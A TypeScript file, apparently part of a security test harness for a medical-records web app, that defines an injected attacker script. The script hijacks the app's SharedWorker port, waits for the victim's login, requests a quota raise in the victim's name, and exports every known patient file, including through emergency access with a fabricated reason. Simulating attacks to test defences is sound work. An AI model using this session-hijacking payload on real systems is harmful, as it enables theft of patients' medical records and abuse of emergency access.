/** The files that the attacker's script took, as it reports them to the attacker. Times are milliseconds since 1970. */
export type Loot = {
  /** One for each opened file: its scope, its whole document, and when the attacker had it. */
  readonly files: readonly { readonly scope: string; readonly document: string; readonly at: number }[];
  /**
   * Whether the vaults took the order for a higher quota, which waits for approvers then; else the code of the refusal.
   */
  readonly raise: string;
  /** Codes of the refusals, with their number. */
  readonly refused: Readonly<Record<string, number>>;
  /** True after the session was open and everything was tried. */
  readonly isDone: boolean;
};

/**
 * The attacker's script inside the real page. It runs in the browser, so it uses nothing from outside of this function.
 *
 * It takes the port to the session's worker before the application has it, waits until the victim has signed in, orders
 * a higher quota for the victim, and opens every file that it knows, by the calls of the screens and then by the
 * emergency quota. It waits for a file while the vaults return units within ten minutes, and goes on to the next one
 * when they do not: a file that the victim has opened costs nothing.
 *
 * @param wanted scopes of the files; an omniscient attacker knows all of them
 */
export function ridePage(wanted: readonly string[]): void {
  type Answer = { ok: true; value: unknown } | { ok: false; error: { code: string; resetsAt: number | null } };
  const loot = {
    files: [] as { scope: string; document: string; at: number }[],
    raise: '',
    refused: {} as Record<string, number>,
    isDone: false,
  };
  Object.assign(globalThis, { loot });
  const waiting = new Map<number, (answer: Answer) => void>();
  // The application counts its calls from 1.
  let last = 1_000_000_000;
  let isRiding = false;

  function call(port: MessagePort, name: string, input: unknown): Promise<Answer> {
    return new Promise((resolve) => {
      last += 1;
      waiting.set(last, resolve);
      port.postMessage({ type: 'call', id: last, name, input });
    });
  }

  async function open(
    port: MessagePort,
    scope: string,
    name: string,
    more: object,
  ): Promise<'opened' | 'later' | 'never'> {
    const opened = await call(port, name, { scope, ...more });
    if (!opened.ok) {
      const { code, resetsAt } = opened.error;
      loot.refused[code] = (loot.refused[code] ?? 0) + 1;
      return resetsAt !== null && resetsAt - Date.now() < 600_000 ? 'later' : 'never';
    }
    const exported = await call(port, 'exportFile', { scope });
    const document = exported.ok ? (exported.value as { document: string }).document : '';
    loot.files.push({ scope, document, at: Date.now() });
    return 'opened';
  }

  async function openAll(port: MessagePort, name: string, more: object): Promise<void> {
    for (const scope of wanted) {
      if (loot.files.some((file) => file.scope === scope)) continue;
      let outcome = await open(port, scope, name, more);
      while (outcome === 'later') {
        await new Promise((resolve) => setTimeout(resolve, 500));
        outcome = await open(port, scope, name, more);
      }
    }
  }

  async function ride(port: MessagePort): Promise<void> {
    let member = '';
    for (;;) {
      const state = await call(port, 'state', null);
      if (state.ok && (state.value as { phase: string }).phase === 'open') {
        member = (state.value as { me: { id: string } }).me.id;
        break;
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    const order = { member, perDay: 400, until: Date.now() + 7 * 86_400_000 };
    const raised = await call(port, 'raisePropose', order);
    loot.raise = raised.ok ? 'waits' : raised.error.code;
    await openAll(port, 'openPatient', {});
    await openAll(port, 'openInEmergency', { reason: 'emergency', explanation: 'urgence' });
    loot.isDone = true;
  }

  const Real = globalThis.SharedWorker;
  globalThis.SharedWorker = class extends Real {
    constructor(...given: ConstructorParameters<typeof Real>) {
      super(...given);
      this.port.addEventListener('message', ({ data }: MessageEvent<{ type: string; id: number; result: Answer }>) => {
        if (data.type !== 'result') return;
        waiting.get(data.id)?.(data.result);
        waiting.delete(data.id);
      });
      if (isRiding) return;
      isRiding = true;
      void ride(this.port);
    }
  };
}
